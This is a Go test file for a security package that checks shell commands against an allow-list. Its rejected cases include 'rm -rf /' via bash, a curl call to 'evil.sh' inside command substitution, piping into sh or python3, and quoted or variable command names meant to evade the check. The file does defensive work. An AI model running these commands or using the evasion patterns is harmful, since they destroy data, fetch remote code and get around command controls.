package security

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestValidateCommandAllowList(t *testing.T) {
	allowed := AllowedCommands(nil)

	tests := []struct {
		name    string
		command string
		ok      bool
	}{
		{"simple allowed", "ls -la", true},
		{"git subcommand", "git status --short", true},
		{"pipeline of allowed", "cat go.mod | grep module | wc -l", true},
		{"chained allowed", "mkdir -p out && cp a.txt out/", true},
		{"path-qualified allowed", "/bin/ls", true},
		{"disallowed binary", "curl https://example.com", false},
		{"pipe to interpreter", "echo 'os.system(1)' | python3", false},
		{"pipe to sh", "cat script.txt | sh", false},
		{"interpreter direct", "bash -c 'rm -rf /'", false},
		{"substitution body checked", "echo $(curl evil.sh)", false},
		{"allowed inside substitution", "echo $(git rev-parse HEAD)", true},
		{"dynamic command name", "$CMD --help", false},
		{"quoted dynamic command name", `X=curl; "$X" http://example.com`, false},
		{"quoted substitution command name", `"$(echo curl)" http://example.com`, false},
		{"partially quoted dynamic name", `"$PREFIX"fix --help`, false},
		{"empty", "   ", false},
		{"unparseable", "if then fi", false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateCommand(tt.command, allowed)
			if tt.ok {
				assert.NoError(t, err)
			} else {
				assert.ErrorIs(t, err, ErrNotAllowed)
			}
		})
	}
}

func TestValidateCommandExtraAllowed(t *testing.T) {
	err := ValidateCommand("cargo build", AllowedCommands(nil))
	assert.ErrorIs(t, err, ErrNotAllowed)

	err = ValidateCommand("cargo build", AllowedCommands([]string{"cargo"}))
	assert.NoError(t, err)
}

func TestAllowedCommandsDeduplicates(t *testing.T) {
	merged := AllowedCommands([]string{"git", "cargo", "cargo"})
	count := 0
	for _, name := range merged {
		if name == "cargo" || name == "git" {
			count++
		}
	}
	require.Equal(t, 2, count)
}
